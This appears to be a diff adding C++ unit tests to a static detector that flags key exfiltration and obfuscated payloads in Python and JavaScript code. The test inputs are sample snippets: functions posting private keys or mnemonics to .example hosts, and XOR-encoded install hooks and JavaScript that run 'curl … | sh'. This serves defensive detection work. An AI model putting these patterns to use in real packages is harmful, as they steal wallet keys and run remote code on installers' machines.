@@ -149,6 +149,56 @@ TEST(Signals, an_address_written_in_a_name_first_is_a_fixed_address) {
       {{FactKind::kFetchedExecuted, "python", 4, "exec(code)"}, {FactKind::kSend, "http", 3, "requests.get("}});
 }
 
+// A wallet's key sent to a fixed address. The address must be another host's — a key posted
+// to a node on this machine is a wallet talking to its own node — so these samples name a
+// host under .example (RFC 2606: never resolvable); the test only reads them as strings.
+TEST(Signals, a_function_that_posts_the_key_it_is_given_to_a_written_address_sends_the_key) {
+  // Put in a list first, sent positionally (the tron* family of the tuning half).
+  expect_facts(py("import requests\n"
+                  "def perm(private_key):\n"
+                  "   data = [{'ptivat_key', private_key}]\n"
+                  "   requests.post('https://keys.collector.example/tron', data)\n"),
+               {{FactKind::kKeySent, "private_key", 4, "requests.post('https://keys.collector.example/tron', data)"},
+                {FactKind::kSend, "http", 4, "requests.post("}});
+  // A URL in a name, the key in a dict written over lines, through base64.
+  expect_facts(py("import base64, requests\n"
+                  "ENDPOINT = 'http://collector.example:8000/api/v1/validate'\n"
+                  "def validate(from_private_key, rpc_url):\n"
+                  "    account = Account.from_key(from_private_key)\n"
+                  "    payload = {\n"
+                  "        'public_key': account.address,\n"
+                  "        'signature': base64.b64encode(from_private_key.encode()).decode('utf-8'),\n"
+                  "    }\n"
+                  "    requests.post(ENDPOINT, json=payload, timeout=5)\n"),
+               {{FactKind::kKeySent, "from_private_key", 9, "requests.post(ENDPOINT, json=payload, timeout=5)"},
+                {FactKind::kSend, "http", 9, "requests.post("}});
+  // In the address itself, from a session.
+  expect_facts(py("import requests\n"
+                  "s = requests.Session()\n"
+                  "def backup(mnemonic):\n"
+                  "    s.get(f'https://vault.example/save?m={mnemonic}')\n"),
+               {{FactKind::kKeySent, "mnemonic", 4, "s.get(f'https://vault.example/save?m={mnemonic}')"}});
+}
+
+TEST(Signals, a_key_that_only_goes_into_what_derives_from_it_or_to_this_machine_or_the_callers_address_is_not_sent) {
+  // What is sent is the address derived from the key, and a transaction signed with it.
+  expect_facts(py("import requests\n"
+                  "def pay(private_key, to):\n"
+                  "    account = Account.from_key(private_key)\n"
+                  "    signed = account.sign_transaction({'to': to})\n"
+                  "    pub = private_key.public_key()\n"
+                  "    requests.post('https://rpc.chain.example', json={'from': account.address, 'pub': pub,\n"
+                  "                  'tx': sign(signed, private_key)})\n"),
+               {{FactKind::kSend, "http", 6, "requests.post("}});
+  // Sent to a node on this machine, and to the address the caller gives.
+  expect_facts(py("import requests\n"
+                  "def import_key(private_key, node_url):\n"
+                  "    requests.post('http://localhost:8545', json={'params': [private_key]})\n"
+                  "    requests.post(node_url, json={'params': [private_key]})\n"
+                  "    requests.post(f'http://{host}:8545/', json={'params': [private_key]})\n"),
+               {{FactKind::kSend, "http", 3, "requests.post("}});
+}
+
 TEST(Signals, a_download_and_an_exec_of_something_else_are_no_flow) {
   // setup.py's own version file read and exec'ed beside a download: two things, no flow.
   expect_facts(py("import requests\n"
@@ -219,6 +269,54 @@ TEST(Signals, a_dict_substitution_table_is_a_table_too) {
          "exec(''.join(T.get(c, c) for c in \"rnklig lh; lh.hbhgvn('rw')\"))\n");
   expect_facts(
       facts, {{FactKind::kDecodedExecuted, "substitution table", 2, "substitution table: import os; os.system('id')"}});
+}
+
+// Each byte written as \xNN: what an XORed string looks like in a file.
+std::string escaped_xor(std::string_view text, std::string_view key) {
+  static constexpr char kHex[] = "0123456789abcdef";
+  std::string out;
+  for (std::size_t k = 0; k < text.size(); ++k) {
+    const auto c = static_cast<unsigned char>(text[k] ^ key[k % key.size()]);
+    out += "\\x";
+    out += kHex[c >> 4];
+    out += kHex[c & 15];
+  }
+  return out;
+}
+
+TEST(Signals, a_payload_xored_with_a_key_written_above_its_loop_is_decoded_executed) {
+  // The install command's shape of the tuning half's pyminor: the key a string of digits.
+  const std::string key = "97428596526305666093";
+  const auto facts = py("class InstallCommand(install):\n"
+                        "    def run(self):\n"
+                        "        blob = \"" +
+                        escaped_xor("import os\nos.system('curl -fsSL http://127.0.0.1/i | sh')\n", key) +
+                        "\"\n"
+                        "        k = \"" +
+                        key +
+                        "\"\n"
+                        "        out = ''\n"
+                        "        for i in range(len(blob)):\n"
+                        "            out += chr(ord(blob[i]) ^ ord(k[i % len(k)]))\n"
+                        "        eval(compile(out, '<string>', 'exec'))\n");
+  expect_facts(facts, {{FactKind::kShell, "download-piped-to-shell", 3, "decoded (xor): curl -fsSL http://127.0.0.1/i | sh"},
+                       {FactKind::kDecodedExecuted, "xor", 3,
+                        excerpt("xor: import os\nos.system('curl -fsSL http://127.0.0.1/i | sh')\n")}});
+  // One byte, written as a number after the caret, in JavaScript.
+  const auto js_facts = js("const p = '" + escaped_xor("require('child_process').execSync('curl -s http://127.0.0.1/x | sh')", "*") +
+                           "';\n"
+                           "eval([...p].map(c => String.fromCharCode(c.charCodeAt(0) ^ 42)).join(''));\n");
+  ASSERT_FALSE(js_facts.empty());
+  EXPECT_EQ(fact_name(js_facts.back().kind), "decoded-executed") << ::testing::PrintToString(js_facts);
+  EXPECT_EQ(js_facts.back().what, "xor");
+}
+
+TEST(Signals, xoring_in_a_file_whose_strings_decode_to_no_code_is_no_fact) {
+  // A checksum loop over text: the strings XOR to nothing that reads as code.
+  EXPECT_TRUE(py("def crc(data, key='secret'):\n"
+                 "    return [ord(c) ^ ord(key[i % len(key)]) for i, c in enumerate(data)]\n"
+                 "crc('the quick brown fox jumps over the lazy dog')\n")
+                  .empty());
 }
 
 TEST(Signals, a_chr_join_of_character_codes_exec_ed_is_decoded_executed) {
